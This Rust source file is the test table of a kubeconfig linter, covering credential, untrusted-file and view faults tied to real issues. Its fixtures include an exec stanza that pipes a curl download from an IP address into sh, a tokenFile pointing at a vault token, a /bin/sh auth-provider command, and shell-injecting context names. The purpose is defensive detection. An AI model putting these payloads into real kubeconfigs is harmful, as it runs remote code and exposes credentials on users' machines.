//! Credentials, identity, security.

use super::row::{CA_DATA, PAIR, Row, row};
use kubeconfig_lint::finding::Severity::Error;
use kubeconfig_lint::profile::Profile::Untrusted;

const TOKEN: &str = "users[u].user.token";
const SHELL: &str = "exec:
      apiVersion: client.authentication.k8s.io/v1
      command: sh
      args: [-c, 'curl http://198.51.100.7/x | sh']
      interactiveMode: Never";

pub(super) fn rows() -> Vec<Row> {
    let mut rows = credentials();
    rows.extend(untrusted());
    rows.extend(views());
    rows
}

fn credentials() -> Vec<Row> {
    vec![
        row(84, "kubernetes/kubernetes#72247", "more than one way to authenticate")
            .given(PAIR, "token: {{token}}")
            .fault("token: {{token}}", "token: {{token}}\n    username: jane\n    password: '{{password}}'")
            .caught("auth/multiple-methods", "users[u].user.username", "only one")
            .undecidable("where one of the two is a flag of the command line"),
        row(85, "kubernetes-client/python#362", "impersonation is ignored without a word")
            .meant_for("python")
            .given(PAIR, "token: {{token}}")
            .fault("token: {{token}}", "token: {{token}}\n    as: jane")
            .caught("auth/impersonation-unsupported", "users[u].user.as", "python"),
        row(86, "rancher/rancher#26121", "a token that ends after 16 hours, and the jobs with it")
            .given(PAIR, "token: {{token}}")
            .fault("{{token}}", "{{ending-jwt}}")
            .caught("auth/token-expiring-soon", TOKEN, "2026-11-25")
            .fault("{{token}}", "{{rancher-token}}")
            .caught("auth/static-token", TOKEN, "Rancher")
            .undecidable("when an opaque token ends: the server keeps the date"),
        row(87, "mmumshad/kubernetes-the-hard-way#229", "a token that had ended when it was made")
            .given(PAIR, "token: {{token}}")
            .fault("{{token}}", "{{expired-jwt}}")
            .caught("auth/token-expired", TOKEN, "2023-11-14")
            .rated(Error),
        row(88, "kubernetes/kubernetes#107150", "tokens of service accounts that never end")
            .given(PAIR, "token: {{token}}")
            .fault("{{token}}", "{{legacy-jwt}}")
            .caught("auth/legacy-service-account-token", TOKEN, "end"),
    ]
}

fn untrusted() -> Vec<Row> {
    const REFUSED: &str = "structure/refused-by-platform";
    vec![
        row(89, "kubernetes/kubectl#697", "the file of somebody else runs commands and reads files")
            .judged(Untrusted)
            .fault(PAIR, SHELL)
            .caught(REFUSED, "users[u].user.exec", "program")
            .and("exec/payload-pattern", "users[u].user.exec.command", "downloads")
            .fault(PAIR, "tokenFile: /root/.vault-token")
            .caught("path/sensitive-target", "users[u].user.tokenFile", "sent"),
        row(90, "GHSA-vvmq-fwmg-2gjc", "code runs in the controllers of Flux")
            .judged(Untrusted)
            .fault(PAIR, "exec: {apiVersion: client.authentication.k8s.io/v1, command: ./x, interactiveMode: Never}")
            .caught(REFUSED, "users[u].user.exec", "program")
            .rated(Error),
        row(91, "CVE-2022-35976", "names that an editor passed to a shell")
            .judged(Untrusted)
            .fault("name: prod", "name: '$(touch x)'")
            .fault("current-context: prod", "current-context: '$(touch x)'")
            .caught("structure/unsafe-name", "contexts[$(touch x)].name", "shell")
            .fault("name: prod", "name: \"prod\\e[2J\"")
            .caught("structure/name-control-characters", "contexts[prod\\u{1b}[2J].name", "steer the terminal"),
        row(92, "menacit/k8s_malicious_kubeconfig", "everything that a file can do to its reader")
            .judged(Untrusted)
            .fault(PAIR, "auth-provider: {name: gcp, config: {cmd-path: /bin/sh}}")
            .caught("auth/provider-runs-command", "users[u].user.auth-provider.config.cmd-path", "command")
            .fault(PAIR, SHELL)
            .caught(REFUSED, "users[u].user.exec", "program"),
        row(93, "Shopify/krane#718", "the message about the file printed the token beside the fault")
            .undecidable("a fault of the reader; that no value is printed, the canary tests show"),
    ]
}

fn views() -> Vec<Row> {
    vec![
        row(94, "kubernetes/kubectl#1193", "`config view` prints secrets that stand elsewhere than in token and password")
            .fault(PAIR, "auth-provider: {name: oidc, config: {client-secret: '{{password}}'}}")
            .caught("exec/inline-secret", "users[u].user.auth-provider.config.client-secret", "secret")
            .fault(PAIR, "username: jane\n    password: '{{password}}'")
            .caught("auth/basic-auth", "users[u].user.username", "password")
            .fault("    server:", "    proxy-url: http://jane:{{password}}@proxy.corp.test:3128\n    server:")
            .caught("server/proxy-credentials", "clusters[c].cluster.proxy-url", "proxy"),
        row(95, "kubernetes/kubernetes#61573", "what a view shows in place of data is no data")
            .fault("{{ca}}", "DATA+OMITTED")
            .caught("encoding/redacted-placeholder", CA_DATA, "--raw"),
        row(96, "kubernetes-retired/dashboard#2474", "the upload is refused, and nobody says why")
            .judged(Untrusted)
            .fault("client-key-data: {{client-key}}", "client-key: client.key")
            .caught("structure/refused-by-platform", "users[u].user.client-key", "file"),
        row(97, "kubernetes-sigs/kind#2644", "a typo in a key is ignored without a word")
            .fault("certificate-authority-data", "certificate-authorty-data")
            .caught("structure/unknown-field", "clusters[c].cluster", "certificate-authority-data"),
    ]
}
